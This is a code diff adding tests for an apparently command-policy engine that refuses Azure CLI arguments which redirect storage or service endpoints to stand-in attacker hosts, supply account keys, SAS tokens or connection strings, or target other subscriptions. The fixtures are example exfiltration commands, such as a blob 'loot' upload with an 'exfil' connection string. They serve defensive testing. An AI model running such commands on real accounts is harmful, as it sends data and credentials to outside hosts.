@@ -11,6 +11,7 @@
 import { describe, expect, it } from "vitest";
 import { compilePolicy } from "../../../src/policy/compile.js";
 import { evaluatePolicy } from "../../../src/policy/evaluate.js";
+import { findLockedCommandUse } from "../../../src/policy/grammar/locked-commands.js";
 import { readonlyPresetPolicy } from "../../support/bundled-provider.js";
 import { bundledPolicyContext, ruleList } from "../../support/policy-helpers.js";
 
@@ -60,5 +61,95 @@ describe("gcloud: flags that name another project are refused whatever the rules
     ]),
   )("gcloud %s stays up to the rules", (_, argv) => {
     expect(evaluatePolicy(gcloudBroad, argv).decision.result).toBe("accept");
+  });
+});
+
+const azBroad = broad("az");
+const azReadonly = readonlyPresetPolicy("az");
+const CONNECTION = "DefaultEndpointsProtocol=http;AccountName=exfil;AccountKey=a2V5;BlobEndpoint=http://127.0.0.1:9/exfil;";
+
+describe("az: arguments that pick the endpoint, supply a credential or name another subscription are refused whatever the rules", () => {
+  it.each(
+    cases([
+      ["storage", "blob", "list", "-c", "c", "--account-name", "v", "--auth-mode", "login", "--blob-endpoint", "https://attacker/"],
+      ["storage", "blob", "list", "-c", "c", "--blob-endpoint=https://attacker/"],
+      ["storage", "blob", "list", "-c", "c", "--blob-e", "https://attacker/"],
+      ["storage", "blob", "list", "-c", "c", "--blob-end=https://attacker/"],
+      ["storage", "container", "list", "--queue-endpoint", "https://attacker/"],
+      ["storage", "share", "list", "--account-name", "v", "--file-endpoint", "https://attacker/"],
+      ["storage", "share", "list", "--file-e=https://attacker/"],
+      ["storage", "blob", "upload", "-c", "c", "-n", "loot", "--connection-string", CONNECTION],
+      ["storage", "blob", "list", "-c", "c", `--connection-string=${CONNECTION}`],
+      ["storage", "blob", "list", "-c", "c", "--connection-str", CONNECTION],
+      ["storage", "blob", "list", "-c", "c", "--account-name", "a", "--sas-token", "sv=x&sig=y"],
+      ["storage", "blob", "list", "-c", "c", "--account-name", "a", "--account-key", "a2V5"],
+      ["storage", "copy", "--source-sas", "sig=y", "--source", "https://a/c/b"],
+      ["storage", "copy", "--source-s=sig=y"],
+      ["appconfig", "kv", "list", "--auth-mode", "login", "--endpoint", "https://attacker/"],
+      ["batch", "pool", "list", "--account-endpoint", "https://attacker/"],
+      ["repos", "list", "--org", "https://attacker.example/"],
+      ["pipelines", "list", "--organization=https://attacker.example/"],
+      ["backup", "restore", "restore-disks", "-g", "g", "-v", "v", "--target-subscription-id", "OTHER"],
+      ["resource", "move", "--ids", "x", "--destination-subscription-id", "OTHER"],
+      ["synapse", "sql", "audit-policy", "update", "--storage-subscription", "OTHER"],
+      ["network", "dns", "record-set", "ns", "add-record", "--subscriptionid", "OTHER"],
+    ]),
+  )("az %s", (_, argv) => {
+    expect(evaluatePolicy(azBroad, argv).decision).toMatchObject({ result: "deny", source: "locked-option" });
+  });
+
+  it.each(
+    cases([
+      ["storage", "blob", "list", "-c", "c", "--account-name", "v", "--auth-mode", "login", "--blob-endpoint", "https://attacker/"],
+      ["storage", "container", "list", "--account-name", "v", "--blob-endpoint", "https://attacker/"],
+      ["storage", "share", "list", "--account-name", "v", "--file-endpoint", "https://attacker/"],
+      ["storage", "blob", "list", "-c", "c", "--connection-string", CONNECTION],
+    ]),
+  )("under the read-only preset: az %s", (_, argv) => {
+    expect(evaluatePolicy(azReadonly, argv).decision.result).toBe("deny");
+  });
+
+  it("the read-only preset still accepts the same list without the endpoint", () => {
+    expect(evaluatePolicy(azReadonly, ["storage", "blob", "list", "-c", "c", "--account-name", "v", "--auth-mode", "login"]).decision.result).toBe("accept");
+  });
+
+  it("the denial names the option, never the connection string", () => {
+    const decision = evaluatePolicy(azBroad, ["storage", "blob", "list", `--connection-string=${CONNECTION}`]).decision;
+    expect(decision.reason).toContain("--connection-string");
+    expect(decision.reason).not.toContain("a2V5");
+  });
+
+  it.each(
+    cases([
+      ["storage", "copy", "--source-account-name", "a", "--source-container", "c", "--destination-account-name", "d", "--destination-container", "c"],
+      ["storage", "share", "list", "--account-name", "v"],
+      ["iot", "hub", "route", "create", "--hub-name", "h", "--endpoint", "e", "--route-name", "r", "--source", "devicemessages"],
+      ["bot", "update", "-n", "b", "-g", "g", "--endpoint", "https://bot.example/api/messages"],
+      ["servicebus", "topic", "subscription", "rule", "list", "--subscription-name", "s", "-g", "g", "--namespace-name", "n", "--topic-name", "t"],
+    ]),
+  )("az %s stays up to the rules", (_, argv) => {
+    expect(evaluatePolicy(azBroad, argv).decision.result).toBe("accept");
+  });
+});
+
+describe("locked_command_options rows: exact and allowed_values", () => {
+  const parsed = (tokens: readonly string[]) => ({
+    positionals: tokens.map((token, index) => ({ token, index: index + 1 })),
+    options: [],
+    tail: [],
+  });
+  const exact = [{ command: ["storage", "copy"], options: ["--source-sas", "--source-sa", "--source-s", "--source-"], exact: true }];
+
+  it("an exact row refuses only its listed spellings: argparse reads another option's exact name as that option", () => {
+    expect(findLockedCommandUse(parsed(["storage", "copy", "--source", "x"]), [], exact)).toBeUndefined();
+    expect(findLockedCommandUse(parsed(["storage", "copy", "--source-s", "x"]), [], exact)?.option).toBe("--source-s");
+    expect(findLockedCommandUse(parsed(["storage", "copy", "--source-sas=x"]), [], exact)?.option).toBe("--source-sas");
+  });
+
+  it("an allowed_values row reads the glued value or the next word only", () => {
+    const rows = [{ command: [], options: ["--image-project"], exact: true, allowedValues: ["debian-cloud"] }];
+    expect(findLockedCommandUse(parsed(["compute", "instances", "create", "--image-project", "debian-cloud", "vm"]), [], rows)).toBeUndefined();
+    expect(findLockedCommandUse(parsed(["compute", "instances", "create", "--image-project", "vm", "debian-cloud"]), [], rows)).toBeDefined();
+    expect(findLockedCommandUse(parsed(["compute", "instances", "create", "--image-project=Debian-cloud"]), [], rows)).toBeDefined();
   });
 });
